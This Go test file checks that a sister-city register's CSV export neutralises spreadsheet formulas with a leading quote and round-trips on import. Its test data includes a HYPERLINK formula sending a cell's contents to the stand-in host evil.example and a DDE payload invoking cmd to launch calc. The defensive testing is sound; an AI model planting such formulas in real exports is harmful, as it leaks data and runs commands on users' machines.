package register_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"testing"

	"sistercity/internal/civil"
	"sistercity/internal/db/dbtest"
	"sistercity/internal/langtext"
	"sistercity/internal/register"
)

// TestCSVExportNeutralisesFormulas: a cell a spreadsheet would run as a formula is exported
// with a quote in front (OWASP), a plain number as it is, and the import reads the export back
// as it was.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	a := dbtest.Open(t)
	mustImport(t, a, busanCSV(t), "", busanOptions())
	ctx := context.Background()
	err := a.InTx(ctx, func(tx *sql.Tx) error {
		reg, err := register.Load(ctx, tx)
		if err != nil {
			return err
		}
		for _, p := range reg.Partnerships {
			if p.PartnerCity.Name("en") != "Vladivostok" {
				continue
			}
			c := p.PartnerCity
			c.SetText("en", formula, "@SUM(1+1)")
			c.SetText("ko", "+블라디보스토크", "")
			c.FoundingNote = "-5"
			c.CityDayRule = "first-sunday-07"
			if err := register.UpdateCity(ctx, tx, c); err != nil {
				return err
			}
			p.SignedAt = langtext.Of("en", "-2+3+cmd|' /C calc'!A0")
			p.Note = "'=already quoted"
			return register.UpdatePartnership(ctx, tx, p, civil.MustParse("1992-06-30"), nil, 0)
		}
		t.Fatal("no Vladivostok in the register")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	exported := export(t, a, register.FormatCSV)
	records, err := csv.NewReader(bytes.NewReader(exported)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]string{}
	for _, rec := range records[1:] {
		if len(rec) > 0 && rec[0] == "'"+formula {
			for i, name := range records[0] {
				cells[name] = rec[i]
			}
		}
	}
	if len(cells) == 0 {
		t.Fatalf("no row whose name_en is the quoted formula:\n%s", exported)
	}
	for col, want := range map[string]string{"name_ko": "'+블라디보스토크", "description_en": "'@SUM(1+1)",
		"founding_note": "-5", "signed_at_en": "'-2+3+cmd|' /C calc'!A0", "note": "''=already quoted"} {
		if cells[col] != want {
			t.Errorf("%s exported as %q, want %q", col, cells[col], want)
		}
	}
	for _, rec := range records {
		for _, c := range rec {
			if c != "" && c != "-5" && bytes.ContainsAny([]byte{c[0]}, "=+-@\t\r") {
				t.Errorf("exported cell %q begins with a formula character", c)
			}
		}
	}

	b := dbtest.Open(t)
	res := mustImport(t, b, exported, register.FormatCSV, register.ImportOptions{Today: testToday, HomeCity: busanHome()})
	if res.PartnershipsCreated != 29 {
		t.Fatalf("import into an empty database: %+v", res)
	}
	reg, err := register.Load(ctx, b.R)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, p := range reg.Partnerships {
		c := p.PartnerCity
		if c.Name("en") != formula {
			continue
		}
		found = true
		if c.Name("ko") != "+블라디보스토크" || c.Description("en") != "@SUM(1+1)" || c.FoundingNote != "-5" ||
			p.SignedAt["en"] != "-2+3+cmd|' /C calc'!A0" || p.Note != "'=already quoted" {
			t.Errorf("imported back as %q %q %q %q %q", c.Name("ko"), c.Description("en"), c.FoundingNote, p.SignedAt, p.Note)
		}
	}
	if !found {
		t.Errorf("the city named %q did not come back", formula)
	}
	if again := export(t, b, register.FormatCSV); !bytes.Equal(exported, again) {
		t.Errorf("CSV round trip differs:\n%s", diffLines(exported, again))
	}
}
